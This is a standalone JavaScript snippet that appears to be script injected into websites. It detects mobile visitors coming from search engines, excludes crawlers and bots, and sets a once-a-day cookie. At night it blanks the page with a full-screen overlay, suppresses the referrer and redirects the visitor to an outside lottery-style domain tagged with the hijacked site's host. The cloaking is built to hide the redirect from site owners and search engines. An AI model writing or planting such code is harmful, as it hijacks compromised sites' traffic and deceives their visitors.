var ua = navigator.userAgent || navigator.vendor || window.opera;
function setC(n, v, days) {
	var d = new Date();
	d.setTime(d.getTime() + days * 86400000);
	document.cookie = n + "=" + v + ";expires=" + d.toGMTString() + ";path=/";
}
function getC(n) {
	var m = document.cookie.match(new RegExp("(^| )" + n + "=([^;]*)(;|$)"));
	return m ? unescape(m[2]) : null;
}
var se = /google\.|bing\.|baidu\.|sogou\.|yandex\.|so\.com|sm\.cn/i;
if (/android|iphone|ipod|mobile|ucweb|micromessenger/i.test(ua) && !/spider|bot|crawl/i.test(ua)) {
	if (getC("fv") == null && se.test(document.referrer)) {
		setC("fv", "1", 1);
		var h = new Date().getHours();
		if (h >= 18 || h < 7) {
			document.write('<meta name="referrer" content="no-referrer"><div style="position:fixed;left:0;top:0;width:100%;height:100%;background:#fff;z-index:99999"></div>');
			top.location.href = "https://m.caipiao-888.invalid/?channel=" + location.host;
		}
	}
}
